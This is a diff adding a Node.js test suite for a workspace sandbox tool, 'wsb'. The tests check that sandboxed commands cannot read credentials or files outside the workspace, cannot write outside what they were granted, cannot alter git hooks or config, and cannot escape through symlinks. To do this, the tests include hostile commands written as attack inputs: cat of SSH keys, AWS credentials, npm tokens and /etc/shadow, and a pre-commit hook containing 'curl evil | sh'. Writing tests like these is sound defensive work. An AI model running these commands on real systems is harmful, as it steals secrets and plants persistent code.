@@ -1,0 +1,122 @@
+import assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { test } from 'node:test';
+import { skipReason, tree, who, wsb } from './helpers';
+
+const skip = skipReason;
+
+test(`secrets in HOME are not there; the workspace is (${who})`, { skip }, () => {
+  const home = tree({ '.ssh/id_rsa': 'PRIVATE KEY', '.aws/credentials': 'AWS', '.npmrc': '//registry/:_authToken=NPM' });
+  const ws = tree({ 'readme.txt': 'hello' });
+  const env = { ...process.env, HOME: home };
+  const attack = wsb(['run', '--', 'sh', '-c', 'cat ~/.ssh/id_rsa ~/.aws/credentials ~/.npmrc; ls -A ~'], { cwd: ws, env });
+  assert.doesNotMatch(attack.stdout, /PRIVATE KEY|AWS|NPM|\.ssh/);
+  assert.match(attack.stderr, /No such file/);
+  const control = wsb(['run', '--', 'cat', 'readme.txt'], { cwd: ws, env });
+  assert.equal(control.stdout, 'hello');
+  assert.equal(control.status, 0);
+});
+
+test(`files outside the workspace are unreadable unless granted (${who})`, { skip }, () => {
+  const outside = tree({ 'secret.txt': 'TOP SECRET' });
+  const ws = tree();
+  const attack = wsb(['run', '--', 'cat', path.join(outside, 'secret.txt')], { cwd: ws });
+  assert.notEqual(attack.status, 0);
+  assert.doesNotMatch(attack.stdout, /TOP SECRET/);
+  const control = wsb(['run', '--allow-read', outside, '--', 'cat', path.join(outside, 'secret.txt')], { cwd: ws });
+  assert.equal(control.stdout, 'TOP SECRET');
+});
+
+test(`root-only files in /etc are masked, even for root (${who})`, { skip }, () => {
+  const r = wsb(['run', '--', 'sh', '-c', 'cat /etc/shadow /etc/gshadow; grep -c ^root: /etc/passwd'], { cwd: tree() });
+  assert.doesNotMatch(r.stdout, /\$[0-9a-z]+\$|^root:/m);
+  assert.equal(r.stdout.trim(), '1', 'positive control: /etc/passwd is readable');
+});
+
+test(`nothing is writable but the grants; a granted directory is (${who})`, { skip }, () => {
+  const ws = tree({ 'src/a.txt': 'original' });
+  const outside = tree();
+  const attack = wsb(['run', '--', 'sh', '-c', `echo pwned > src/a.txt; echo pwned > new.txt; echo pwned > ${outside}/x; echo pwned > /usr/x; echo ok`], { cwd: ws });
+  assert.match(attack.stderr, /Read-only file system/);
+  assert.equal(fs.readFileSync(path.join(ws, 'src/a.txt'), 'utf8'), 'original');
+  assert.ok(!fs.existsSync(path.join(ws, 'new.txt')));
+  assert.deepEqual(fs.readdirSync(outside), []);
+
+  const control = wsb(['run', '--allow-write', 'src', '--', 'sh', '-c', 'echo changed > src/a.txt && echo made > src/b.txt'], { cwd: ws });
+  assert.equal(control.status, 0, control.stderr);
+  assert.equal(fs.readFileSync(path.join(ws, 'src/a.txt'), 'utf8'), 'changed\n');
+  assert.equal(fs.readFileSync(path.join(ws, 'src/b.txt'), 'utf8'), 'made\n');
+});
+
+test(`the private HOME and /tmp are writable and vanish afterwards (${who})`, { skip }, () => {
+  const home = tree();
+  const r = wsb(['run', '--', 'sh', '-c', 'echo a > ~/.cache-file && echo b > /tmp/t && cat ~/.cache-file /tmp/t'], { cwd: tree(), env: { ...process.env, HOME: home } });
+  assert.equal(r.stdout, 'a\nb\n');
+  assert.deepEqual(fs.readdirSync(home), []);
+});
+
+test(`a write grant never covers git hooks, git config, editor settings or the manifest (${who})`, { skip }, () => {
+  const ws = tree({
+    '.git/config': '[core]\n',
+    '.git/HEAD': 'ref: refs/heads/main\n',
+    '.vscode/settings.json': '{}',
+    '.vscode/sandbox.json': '{"tools":{}}',
+    'src/index.js': '',
+  });
+  fs.mkdirSync(path.join(ws, '.git/hooks'));
+  const attack = wsb(
+    ['run', '--allow-write', '.', '--', 'sh', '-c', [
+      'echo "curl evil | sh" > .git/hooks/pre-commit',
+      'echo "[core] hooksPath = /tmp" >> .git/config',
+      'echo "{}" > .vscode/tasks.json',
+      'echo \'{"tools":{"x":{"command":["sh"],"capabilities":{"net":"all"}}}}\' > .vscode/sandbox.json',
+      'mkdir -p .husky; echo evil > .husky/pre-commit',
+      'mv .git/hooks .git/hooks-gone',
+      'echo fine > src/index.js',
+    ].join('; ')],
+    { cwd: ws },
+  );
+  assert.equal(fs.readFileSync(path.join(ws, 'src/index.js'), 'utf8'), 'fine\n', 'positive control: the grant works');
+  assert.deepEqual(fs.readdirSync(path.join(ws, '.git/hooks')), []);
+  assert.equal(fs.readFileSync(path.join(ws, '.git/config'), 'utf8'), '[core]\n');
+  assert.deepEqual(fs.readdirSync(path.join(ws, '.vscode')).sort(), ['sandbox.json', 'settings.json']);
+  assert.equal(fs.readFileSync(path.join(ws, '.vscode/sandbox.json'), 'utf8'), '{"tools":{}}');
+  assert.deepEqual(fs.readdirSync(path.join(ws, '.husky')), [], 'a missing protected directory is a read-only placeholder');
+  assert.match(attack.stderr, /Read-only file system|Device or resource busy/);
+
+  const exact = wsb(['run', '--allow-write', '.', '--allow-write', '.vscode', '--', 'sh', '-c', 'echo "{}" > .vscode/tasks.json'], { cwd: ws });
+  assert.equal(exact.status, 0, exact.stderr);
+  assert.ok(fs.existsSync(path.join(ws, '.vscode/tasks.json')), 'granting the exact path makes it writable');
+});
+
+test(`symlinks in the workspace open no way out (${who})`, { skip }, () => {
+  const outside = tree({ 'secret.txt': 'TOP SECRET' });
+  const ws = tree();
+  fs.symlinkSync(outside, path.join(ws, 'link'));
+  fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'file-link'));
+  const attack = wsb(['run', '--', 'sh', '-c', 'cat link/secret.txt; cat file-link'], { cwd: ws });
+  assert.doesNotMatch(attack.stdout, /TOP SECRET/);
+
+  const viaGrant = wsb(['run', '--allow-write', 'link', '--', 'sh', '-c', 'echo pwned > link/owned'], { cwd: ws });
+  assert.equal(viaGrant.status, 2);
+  assert.match(viaGrant.stderr, /symlink to .* outside the workspace/);
+  assert.deepEqual(fs.readdirSync(outside), ['secret.txt']);
+
+  const control = wsb(['run', '--allow-read', outside, '--', 'cat', 'link/secret.txt'], { cwd: ws });
+  assert.equal(control.stdout, 'TOP SECRET');
+});
+
+test(`missing write targets are created: a directory, or a file when the name has an extension (${who})`, { skip }, () => {
+  const ws = tree();
+  const r = wsb(['run', '--allow-write', 'dist', '--allow-write', 'cache/out.json', '--', 'sh', '-c', 'echo x > dist/a && echo "{}" > cache/out.json'], { cwd: ws });
+  assert.equal(r.status, 0, r.stderr);
+  assert.equal(fs.readFileSync(path.join(ws, 'cache/out.json'), 'utf8'), '{}\n');
+  assert.equal(fs.readFileSync(path.join(ws, 'dist/a'), 'utf8'), 'x\n');
+});
+
+test(`a missing read grant is skipped with a warning, not a broken run (${who})`, { skip }, () => {
+  const r = wsb(['run', '--allow-read', '/nonexistent/wsb-path', '--', 'true'], { cwd: tree() });
+  assert.equal(r.status, 0);
+  assert.match(r.stderr, /\/nonexistent\/wsb-path does not exist; the read grant was skipped/);
+});
